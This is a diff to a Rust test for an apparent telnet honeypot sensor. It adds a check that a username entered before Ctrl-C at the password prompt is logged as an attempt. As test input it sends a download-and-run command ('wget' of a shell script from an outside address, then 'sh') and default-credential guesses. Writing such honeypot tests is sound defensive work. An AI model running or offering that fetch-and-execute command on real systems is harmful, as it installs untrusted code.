@@ -541,9 +541,9 @@ fn telnet_input_that_is_not_utf8_is_recorded_byte_exact() {
 }
 
 /// Lines that arrive in the same read as `exit` are not lost: no shell reads them, so they go
-/// to rawInput as sent.
+/// to rawInput as sent. A username followed by Ctrl-C at the password prompt is an attempt.
 #[test]
-fn lines_sent_with_exit_in_one_read_are_kept_raw() {
+fn lines_sent_with_exit_and_a_username_before_ctrl_c_are_kept() {
     let [t] = ports();
     let sensor = SensorProcess::start(&bin(), &plugin("t", "telnet", t, "telnet"));
     let mut s = connect(t);
@@ -554,9 +554,24 @@ fn lines_sent_with_exit_in_one_read_are_kept_raw() {
     read_until(&mut s, b"# ");
     send(&mut s, b"exit\r\nwget http://198.51.100.9/x.sh\r\nsh x.sh");
     read_to_close(&mut s);
+    // Ctrl-C at the password prompt: the username is an attempt all the same.
+    let mut s = connect(t);
+    read_until(&mut s, b"login: ");
+    send(&mut s, b"support\r\n");
+    read_until(&mut s, b"Password: ");
+    send(&mut s, b"\x03");
+    read_until(&mut s, b"login: ");
+    drop(s);
     let (status, dir) = sensor.terminate(TIMEOUT);
     assert!(status.success());
     let conn = db(&dir.path().join("sensor.sqlite"));
+    assert_eq!(
+        rows(
+            &conn,
+            "SELECT username, password FROM telnet WHERE eventType = 'telnet.login' ORDER BY ID"
+        ),
+        [["root", "admin"], ["support", "NULL"]]
+    );
     assert_eq!(
         rows(&conn, "SELECT reason, bytes FROM rawInput ORDER BY ID"),
         [[
